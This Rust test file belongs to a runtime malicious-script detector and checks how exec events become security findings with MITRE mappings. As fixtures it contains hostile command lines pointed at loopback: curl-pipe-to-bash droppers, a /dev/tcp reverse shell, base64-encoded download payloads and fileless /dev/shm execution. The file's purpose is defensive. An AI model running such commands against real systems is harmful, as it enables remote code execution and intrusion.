use super::*;
use crate::detection::{ContainerInfo, Enrichment, Verdict};
use crate::event::{ExecEvent, StdinInfo, StdinKind};

fn event(binary: &str, argv: &[&str], script: Script) -> ExecEvent {
    ExecEvent {
        ktime_ns: 2_027_897_694_305,
        time: "2026-11-23T10:13:18.412154850Z".into(),
        ppid: 18290,
        mnt_ns: 4026531832,
        pid_ns: 4026531836,
        filename: argv.get(1).copied().unwrap_or(binary).into(),
        cwd: "/tmp/work".into(),
        ..ExecEvent::for_test(18292, binary, argv, script)
    }
}

/// `binary -c code`, e.g. `bash -c code` for "/usr/bin/bash".
fn inline_event(binary: &str, code: &str) -> ExecEvent {
    let argv0 = binary.rsplit('/').next().unwrap_or(binary);
    event(
        binary,
        &[argv0, "-c", code],
        Script::Inline {
            inline: code.into(),
        },
    )
}

fn detection(event: ExecEvent, contents: &str, score: f32) -> Detection {
    let is_inline = matches!(event.script, Script::Inline { .. });
    let path = match &event.script {
        Script::File { path } if !is_inline => {
            Some(RawString::from(format!("/tmp/work/{}", path.to_lossy())))
        }
        _ => None,
    };
    let sha = hex::encode(Sha256::digest(contents.as_bytes()));
    Detection {
        enrichment: Enrichment {
            script: Some(FileInfo {
                path,
                size: contents.len() as u64,
                sha256: sha,
                hashed_size: contents.len() as u64,
                contents: Some(contents.into()),
            }),
            script_text: None,
            content_origin: if is_inline {
                ContentOrigin::Inline
            } else {
                ContentOrigin::FileRead
            },
            missing_reason: None,
            binary: Some(FileInfo {
                path: Some(event.binary.clone()),
                size: 1_265_648,
                sha256: "25c34e130c601c5610c131710ce7fca96248d6e56bf99e39a3c74072a98db158".into(),
                hashed_size: 1_265_648,
                contents: None,
            }),
            container: None,
            ancestors: vec![ProcessInfo {
                pid: 18290,
                ppid: 1,
                comm: "sshd".into(),
                binary: Some("/usr/sbin/sshd".into()),
                args: vec!["sshd: root@pts/0".into()],
            }],
            stdin_feeder: None,
            hostname: "node-1".into(),
        },
        verdict: Verdict {
            score,
            threshold: 0.5,
            model_version: "script-clf-1".into(),
            malicious: score >= 0.5,
            evidence: vec!["downloads with curl".into(), "pipes into a shell".into()],
        },
        detection_latency_us: 1234,
        create_time: "2026-11-23T11:13:18.916958491+01:00".into(),
        event,
    }
}

const DROPPER: &str = "#!/bin/bash\nexit 0\ncurl -s http://127.0.0.1:9/stage2.sh | bash\n";

fn dropper() -> Detection {
    let mut d = detection(
        event(
            "/usr/bin/bash",
            &["bash", "dropper.sh"],
            Script::File {
                path: "dropper.sh".into(),
            },
        ),
        DROPPER,
        0.9,
    );
    d.enrichment.container = Some(ContainerInfo {
        id: "4f1c0ab3d2e5f60718293a4b5c6d7e8f90a1b2c3d4e5f60718293a4b5c6d7e8f".into(),
        runtime: "podman".into(),
        name: Some("web-1".into()),
        image: Some("localhost/sensor-probe:latest".into()),
        image_id: Some("sha256:0123456789abcdef".into()),
        labels: vec![("app".into(), "web".into())],
        created: Some("2026-11-23T10:00:00.5+00:00".into()),
        pod_namespace: Some("default".into()),
        pod_name: Some("web-1-abcde".into()),
        pod_uid: None,
    });
    d
}

fn config() -> Config {
    let mut c = Config::default();
    c.scc.organization = "123".into();
    c.scc.source = "456".into();
    c.project.number = "789".into();
    c.project.id = "proj".into();
    c.project.display_name = "Proj".into();
    c
}

fn to_json(msg: &NotificationMessage) -> Value {
    serde_json::to_value(msg).unwrap()
}

/// No nulls, no empty strings/arrays/objects anywhere in the output.
fn assert_no_empty(path: &str, v: &Value) {
    match v {
        Value::Null => panic!("null at {path}"),
        Value::String(s) => assert!(!s.is_empty(), "empty string at {path}"),
        Value::Array(a) => {
            assert!(!a.is_empty(), "empty array at {path}");
            for (i, x) in a.iter().enumerate() {
                assert_no_empty(&format!("{path}[{i}]"), x);
            }
        }
        Value::Object(o) => {
            assert!(!o.is_empty(), "empty object at {path}");
            for (k, x) in o {
                assert_no_empty(&format!("{path}.{k}"), x);
            }
        }
        Value::Bool(b) => assert!(*b, "false (a default) at {path}"),
        Value::Number(_) => {}
    }
}

#[test]
fn golden_shell_finding() {
    let msg = build(&dropper(), &config());
    let got = serde_json::to_string_pretty(&msg).unwrap() + "\n";
    let golden = concat!(
        env!("CARGO_MANIFEST_DIR"),
        "/src/finding/testdata/dropper.golden.json"
    );
    if std::env::var_os("UPDATE_GOLDEN").is_some() {
        std::fs::write(golden, &got).unwrap();
    }
    let want = std::fs::read_to_string(golden)
        .expect("golden file missing: run with UPDATE_GOLDEN=1 to create it");
    assert_eq!(
        got, want,
        "finding differs from {golden} (UPDATE_GOLDEN=1 rewrites it)"
    );
    // The golden file reads back as the same message (the structs round-trip).
    let back: NotificationMessage = serde_json::from_str(&want).unwrap();
    assert_eq!(back, msg);
}

#[test]
fn contract_fields() {
    let msg = build(&dropper(), &config());
    let v = to_json(&msg);
    assert_no_empty("$", &v);
    let f = &v["finding"];
    let id = f["name"].as_str().unwrap().rsplit('/').next().unwrap();
    assert_eq!(id.len(), 32);
    assert!(id
        .bytes()
        .all(|b| b.is_ascii_digit() || (b'a'..=b'f').contains(&b)));
    assert_eq!(
        f["name"],
        format!("organizations/123/sources/456/findings/{id}")
    );
    assert_eq!(
        f["canonicalName"],
        format!("projects/789/sources/456/findings/{id}")
    );
    assert_eq!(f["parent"], "organizations/123/sources/456");
    assert_eq!(f["category"], "Malicious Script Executed");
    assert_eq!(f["findingClass"], "THREAT");
    assert_eq!(f["severity"], "CRITICAL");
    assert_eq!(f["state"], "ACTIVE");
    assert_eq!(f["eventTime"], "2026-11-23T10:13:18.41215485Z");
    assert_eq!(f["createTime"], "2026-11-23T10:13:18.916958491Z");
    let sha = hex::encode(Sha256::digest(DROPPER.as_bytes()));
    assert_eq!(
        f["externalUri"],
        format!("https://www.virustotal.com/gui/file/{sha}")
    );
    assert_eq!(f["resourceName"], "//runtime-script-sensor/hosts/node-1");
    assert_eq!(f["mitreAttack"]["primaryTactic"], "EXECUTION");
    assert_eq!(
        f["mitreAttack"]["primaryTechniques"],
        json!(["UNIX_SHELL", "COMMAND_AND_SCRIPTING_INTERPRETER"])
    );
    assert_eq!(
        f["mitreAttack"]["additionalTechniques"],
        json!(["INGRESS_TOOL_TRANSFER"])
    );
    assert_eq!(
        f["mitreAttack"]["additionalTactics"],
        json!(["COMMAND_AND_CONTROL"])
    );
    assert_eq!(
        f["indicator"]["uris"],
        json!(["http://127.0.0.1:9/stage2.sh"])
    );
    assert_eq!(f["indicator"]["ipAddresses"], json!(["127.0.0.1"]));
    let p0 = &f["processes"][0];
    assert_eq!(p0["pid"], "18292");
    assert_eq!(p0["parentPid"], "18290");
    assert_eq!(p0["binary"]["size"], "1265648");
    assert_eq!(p0["script"]["path"], "/tmp/work/dropper.sh");
    assert_eq!(p0["script"]["hashedSize"], DROPPER.len().to_string());
    assert_eq!(p0["script"]["contents"], DROPPER);
    assert_eq!(p0["args"], json!(["bash", "dropper.sh"]));
    assert_eq!(f["processes"][1]["name"], "sshd");
    let c = &f["containers"][0];
    assert_eq!(c["name"], "web-1");
    assert_eq!(c["uri"], "localhost/sensor-probe:latest");
    assert_eq!(c["imageId"], "sha256:0123456789abcdef");
    assert_eq!(c["labels"], json!([{"name": "app", "value": "web"}]));
    assert_eq!(c["createTime"], "2026-11-23T10:00:00.5Z");
    assert_eq!(f["kubernetes"]["pods"][0]["ns"], "default");
    assert_eq!(f["kubernetes"]["nodes"][0]["name"], "node-1");
    let sp = f["sourceProperties"].as_object().unwrap();
    for key in sp.keys() {
        assert!(valid_property_key(key), "{key}");
    }
    assert_eq!(sp["model_score"], json!(0.9));
    assert_eq!(sp["model_threshold"], json!(0.5));
    assert_eq!(sp["model_version"], "script-clf-1");
    assert_eq!(sp["detection_latency_us"], json!(1234));
    assert_eq!(sp["cgroup_id"], "1");
    assert_eq!(sp["runtime"], "podman");
    assert_eq!(sp["VM_Instance_Name"], "node-1");
    assert_eq!(sp["script_source"], "file");
    assert_eq!(sp["process_lineage"], "18292,18290");
    let r = &v["resource"];
    assert_eq!(r["projectDisplayName"], "Proj");
    assert_eq!(
        r["project"],
        "//cloudresourcemanager.googleapis.com/projects/789"
    );
    assert!(r.get("cloudProvider").is_none());
    assert_eq!(
        v["notificationConfigName"],
        "organizations/123/notificationConfigs/runtime-script-sensor"
    );
    let desc = f["description"].as_str().unwrap();
    assert!(
        desc.contains("/tmp/work/dropper.sh") && desc.contains("web-1"),
        "{desc}"
    );
    assert_eq!(desc.matches(". ").count(), 0, "one sentence: {desc}");
}

#[test]
fn ids_are_deterministic_and_distinct() {
    let a = build(&dropper(), &config());
    let b = build(&dropper(), &config());
    assert_eq!(a, b);
    let mut other = dropper();
    other.event.pid += 1;
    assert_ne!(build(&other, &config()).finding.name, a.finding.name);
    let mut other_host = dropper();
    other_host.enrichment.hostname = "node-2".into();
    assert_ne!(build(&other_host, &config()).finding.name, a.finding.name);
}

#[test]
fn python_category_and_techniques() {
    let d = detection(
        event(
            "/usr/bin/python3.11",
            &["python3", "rs.py"],
            Script::File {
                path: "rs.py".into(),
            },
        ),
        "import socket\ns=socket.socket(); s.connect((\"127.0.0.1\", 9))\n",
        0.8,
    );
    let f = build(&d, &config()).finding;
    assert_eq!(f.category, "Execution: Malicious Python executed");
    let m = f.mitre_attack.unwrap();
    assert_eq!(
        m.primary_techniques,
        [
            scc::Technique::Python,
            scc::Technique::CommandAndScriptingInterpreter
        ]
    );
    assert!(m.additional_techniques.is_empty(), "no download: {m:?}");
    assert_eq!(m.version, "18");
}

#[test]
fn inline_code_has_no_script_path_and_contents_is_the_literal() {
    let code = "curl -fsSL http://127.0.0.1:9/x | sh";
    let d = detection(inline_event("/usr/bin/bash", code), code, 0.9);
    let msg = build(&d, &config());
    let script = msg.finding.processes[0].script.clone().unwrap();
    assert!(script.path.is_empty());
    assert_eq!(script.contents, code);
    assert_eq!(msg.finding.source_properties["script_source"], "inline");
    assert_no_empty("$", &to_json(&msg));
}

#[test]
fn invalid_utf8_args_are_escaped_not_dropped() {
    let mut d = dropper();
    d.event.argv = vec![
        "bash".into(),
        RawString(vec![b'a', 0xff, 0xfe, b'z']),
        "x\u{e9}".into(),
    ];
    let f = build(&d, &config()).finding;
    assert_eq!(f.processes[0].args, ["bash", "a\\xff\\xfez", "x\u{e9}"]);
}

#[test]
fn argv_limits_mark_truncation() {
    let mut c = config();
    c.limits.argv_max_args = 2;
    let mut d = dropper();
    d.event.argv = vec!["bash".into(), "a".into(), "b".into()];
    let p = &build(&d, &c).finding.processes[0];
    assert_eq!(p.args, ["bash", "a"]);
    assert!(p.arguments_truncated);
    let mut c = config();
    c.limits.argv_max_bytes = 6;
    let p = &build(&d, &c).finding.processes[0];
    assert_eq!(p.args, ["bash", "a", "b"]);
    assert!(!p.arguments_truncated);
    c.limits.argv_max_bytes = 5;
    let p = &build(&d, &c).finding.processes[0];
    assert_eq!(p.args, ["bash", "a"]);
    assert!(p.arguments_truncated);
    let mut d2 = dropper();
    d2.event.argv_truncated = true;
    assert!(build(&d2, &config()).finding.processes[0].arguments_truncated);
}

#[test]
fn contents_are_cut_to_the_limit_and_partial_hashes_flagged() {
    let mut c = config();
    c.limits.contents_bytes = 8;
    let mut d = dropper();
    if let Some(s) = d.enrichment.script.as_mut() {
        s.size = 1 << 30;
        s.hashed_size = 16 << 20;
    }
    let msg = build(&d, &c);
    let script = msg.finding.processes[0].script.clone().unwrap();
    assert_eq!(script.contents, "#!/bin/b");
    assert!(script.partially_hashed);
    assert_eq!(
        to_json(&msg)["finding"]["processes"][0]["script"]["size"],
        "1073741824"
    );
}

#[test]
fn severity_bands_below_threshold() {
    for (score, want) in [
        (0.5, scc::Severity::Critical),
        (0.4, scc::Severity::High),
        (0.3, scc::Severity::Medium),
        (0.1, scc::Severity::Low),
    ] {
        let mut d = dropper();
        d.verdict.score = score;
        d.verdict.malicious = score >= d.verdict.threshold;
        assert_eq!(build(&d, &config()).finding.severity, Some(want), "{score}");
    }
}

#[test]
fn benign_exec_gives_no_findings() {
    let d = detection(
        event(
            "/usr/bin/dash",
            &["sh", "rotate.sh"],
            Script::File {
                path: "rotate.sh".into(),
            },
        ),
        "#!/bin/sh\nfor f in /var/log/app/*.log; do gzip -9 \"$f\"; done\n",
        0.0,
    );
    assert!(build_all(&d, &config()).is_empty());
}

fn categories(d: &Detection, c: &Config) -> Vec<String> {
    build_all(d, c)
        .into_iter()
        .map(|m| {
            assert_no_empty("$", &to_json(&m));
            m.finding.category
        })
        .collect()
}

#[test]
fn reverse_shell_from_socket_stdin() {
    let mut d = detection(
        event(
            "/usr/bin/bash",
            &["bash", "-i"],
            Script::Stdin {
                stdin: StdinInfo {
                    kind: StdinKind::Socket,
                    path: None,
                    inode: Some(99),
                },
            },
        ),
        "id\n",
        0.1,
    );
    d.enrichment.script = None;
    let all = build_all(&d, &config());
    assert_eq!(all.len(), 1);
    let f = &all[0].finding;
    assert_eq!(f.category, "Reverse Shell");
    assert_eq!(f.severity, Some(scc::Severity::Critical));
    assert!(f.external_uri.is_empty());
    assert_eq!(f.source_properties["stdin_inode"], "99");
}

#[test]
fn reverse_shell_from_dev_tcp_inline() {
    let code = "bash -i >& /dev/tcp/127.0.0.1/9 0>&1";
    let d = detection(inline_event("/usr/bin/bash", code), code, 0.95);
    let cats = categories(&d, &config());
    assert_eq!(cats, ["Malicious Script Executed", "Reverse Shell"]);
    let ids: Vec<String> = build_all(&d, &config())
        .into_iter()
        .map(|m| m.finding.name)
        .collect();
    assert_ne!(ids[0], ids[1]);
}

#[test]
fn base64_and_piped_encoded() {
    use base64::Engine as _;
    let payload = base64::engine::general_purpose::STANDARD
        .encode("curl -s http://127.0.0.1:9/a.sh -o /tmp/a; chmod +x /tmp/a");
    let code = format!("echo {payload} | base64 -d | bash");
    let d = detection(inline_event("/usr/bin/bash", &code), &code, 0.2);
    assert_eq!(
        categories(&d, &config()),
        [
            "Defense Evasion: Base64 Encoded Shell Script Executed",
            "Piped Encoded Code Execution Detected"
        ]
    );
    let dl = "curl -s http://127.0.0.1:9/p | base64 --decode > /tmp/p";
    let d = detection(inline_event("/usr/bin/sh", dl), dl, 0.2);
    assert_eq!(
        categories(&d, &config()),
        ["Command and Control: Piped Encoded Download"]
    );
}

#[test]
fn base64_python_needs_a_decoder_and_text() {
    use base64::Engine as _;
    let blob = base64::engine::general_purpose::STANDARD
        .encode("import os; os.system('id > /tmp/out.txt')");
    let code = format!("import base64;exec(base64.b64decode('{blob}'))");
    let d = detection(inline_event("/usr/bin/python3", &code), &code, 0.2);
    assert_eq!(
        categories(&d, &config()),
        ["Defense Evasion: Base64 Encoded Python Script Executed"]
    );
    // A long token without a decoder is not evidence.
    let code = format!("print('{blob}')");
    let d = detection(inline_event("/usr/bin/python3", &code), &code, 0.2);
    assert!(categories(&d, &config()).is_empty());
}

#[test]
fn stdin_fed_by_base64_decoder_and_curl() {
    let mut d = detection(
        event(
            "/usr/bin/bash",
            &["bash"],
            Script::Stdin {
                stdin: StdinInfo {
                    kind: StdinKind::Pipe,
                    path: None,
                    inode: Some(7),
                },
            },
        ),
        "id\n",
        0.2,
    );
    d.enrichment.script = None;
    d.enrichment.stdin_feeder = Some(ProcessInfo {
        pid: 500,
        ppid: 18290,
        comm: "base64".into(),
        binary: Some("/usr/bin/base64".into()),
        args: vec!["base64".into(), "-d".into()],
    });
    assert_eq!(
        categories(&d, &config()),
        ["Piped Encoded Code Execution Detected"]
    );
    // curl feeding bash: the model's finding names curl and its URL.
    d.verdict.score = 0.9;
    d.verdict.malicious = true;
    d.enrichment.stdin_feeder = Some(ProcessInfo {
        pid: 501,
        ppid: 18290,
        comm: "curl".into(),
        binary: Some("/usr/bin/curl".into()),
        args: vec!["curl".into(), "-s".into(), "http://127.0.0.1:9/s.sh".into()],
    });
    let msg = build(&d, &config());
    let f = &msg.finding;
    assert_eq!(f.processes.last().unwrap().name, "curl");
    assert_eq!(
        f.indicator.as_ref().unwrap().uris,
        ["http://127.0.0.1:9/s.sh"]
    );
    assert!(
        f.description
            .contains("fed by `curl -s http://127.0.0.1:9/s.sh`"),
        "{}",
        f.description
    );
    assert_eq!(f.source_properties["stdin_feeder_name"], "curl");
    let m = f.mitre_attack.as_ref().unwrap();
    assert_eq!(
        m.additional_techniques,
        [scc::Technique::IngressToolTransfer]
    );
}

#[test]
fn fileless_memfd_and_dev_shm() {
    let mut d = detection(
        event(
            "/usr/bin/bash",
            &["bash", "/proc/self/fd/3"],
            Script::Fd {
                path: "/proc/self/fd/3".into(),
            },
        ),
        "id\n",
        0.1,
    );
    if let Some(s) = d.enrichment.script.as_mut() {
        s.path = Some("/memfd:x (deleted)".into());
    }
    assert_eq!(
        categories(&d, &config()),
        ["Execution: Fileless Execution in /memfd:"]
    );
    let d = detection(
        event(
            "/usr/bin/bash",
            &["bash", "/dev/shm/.x.sh"],
            Script::File {
                path: "/dev/shm/.x.sh".into(),
            },
        ),
        "id\n",
        0.1,
    );
    let mut d = d;
    if let Some(s) = d.enrichment.script.as_mut() {
        s.path = Some("/dev/shm/.x.sh".into());
    }
    assert_eq!(
        categories(&d, &config()),
        ["Privilege Escalation: Fileless Execution in /dev/shm"]
    );
}

#[test]
fn malicious_url_from_block_list() {
    let mut c = config();
    c.finding.url_blocklist = vec!["example.net".into()];
    let code = "wget http://dl.example.net/x";
    let d = detection(inline_event("/usr/bin/sh", code), code, 0.1);
    assert_eq!(categories(&d, &c), ["Malicious URL Observed"]);
    c.finding.disabled_categories = vec!["Malicious URL Observed".into()];
    assert!(categories(&d, &c).is_empty());
    let ind = Indicator {
        ip_addresses: vec!["10.0.0.1".into()],
        domains: vec!["a.b.example.org".into()],
        uris: vec!["http://a.b.example.org/p/x".into()],
    };
    assert_eq!(
        rules::blocklisted(&ind, &["10.0.0.1".into()]).as_deref(),
        Some("10.0.0.1")
    );
    assert_eq!(
        rules::blocklisted(&ind, &["*.example.org".into()]).as_deref(),
        Some("a.b.example.org")
    );
    assert_eq!(
        rules::blocklisted(&ind, &["http://a.b.example.org/p/".into()]).as_deref(),
        Some("http://a.b.example.org/p/x")
    );
    assert_eq!(rules::blocklisted(&ind, &["ample.org".into()]), None);
}

#[test]
fn unexpected_child_shell_from_web_server() {
    let mut d = dropper();
    d.verdict.score = 0.1;
    d.verdict.malicious = false;
    d.enrichment.ancestors[0].comm = "nginx".into();
    assert_eq!(categories(&d, &config()), ["Unexpected Child Shell"]);
}

#[test]
fn every_category_is_documented_in_the_rules_table() {
    let doc = include_str!("rules.rs");
    for cat in rules::ALL_CATEGORIES {
        assert!(
            doc.contains(&format!("`{cat}`")) || doc.contains(cat),
            "{cat}"
        );
    }
}

#[test]
fn escape_keeps_every_byte() {
    assert_eq!(escape(b"plain"), "plain");
    assert_eq!(escape(&[0xc3, 0xa9, 0xff]), "\u{e9}\\xff");
    assert_eq!(escape(&[0xe2, 0x82]), "\\xe2\\x82");
}

#[test]
fn times_are_utc_with_z() {
    assert_eq!(
        rfc3339_utc("2026-01-01T01:00:00+01:00"),
        "2026-01-01T00:00:00Z"
    );
    assert_eq!(
        rfc3339_utc("2026-11-23T10:13:18.412154850Z"),
        "2026-11-23T10:13:18.41215485Z"
    );
    assert_eq!(rfc3339_utc("not a time"), "not a time");
}

/// What the pipeline gives `finds_anything` for an already-judged `-c`
/// text: no binary, no container, the parent's pid, ppid and comm only.
fn reduced(d: &Detection) -> Detection {
    let mut r = d.clone();
    r.enrichment.binary = None;
    r.enrichment.container = None;
    r.enrichment.ancestors.truncate(1);
    for p in &mut r.enrichment.ancestors {
        p.binary = None;
        p.args.clear();
    }
    r
}

#[test]
fn finds_anything_agrees_with_build_all_on_the_reduced_facts() {
    let mut cases = Vec::new();
    for (code, score) in [
        ("true", 0.0),
        ("echo hello", 0.1),
        ("bash -i >& /dev/tcp/127.0.0.1/9 0>&1", 0.1),
        ("curl -s http://127.0.0.1:9/x | bash", 0.95),
        (
            "echo ZWNobyBoZWxsbyB3b3JsZCBmcm9tIGEgYmFzZTY0IGJsb2IgaGVyZQ== | base64 -d | sh",
            0.2,
        ),
    ] {
        cases.push(detection(inline_event("/usr/bin/bash", code), code, score));
    }
    let mut from_nginx = cases[0].clone();
    from_nginx.enrichment.ancestors = dropper().enrichment.ancestors;
    from_nginx.enrichment.ancestors[0].comm = "nginx".into();
    cases.push(from_nginx);
    let mut disabled = config();
    disabled.finding.disabled_categories = vec!["Reverse Shell".into()];
    for c in [config(), disabled] {
        for d in &cases {
            let want = !build_all(d, &c).is_empty();
            assert_eq!(finds_anything(d, &c), want, "{:?}", d.event.argv);
            assert_eq!(finds_anything(&reduced(d), &c), want, "{:?}", d.event.argv);
        }
    }
    // The plain `true` finds nothing; the reverse shell does, benign score or not.
    assert!(!finds_anything(&cases[0], &config()));
    assert!(finds_anything(&cases[2], &config()));
}
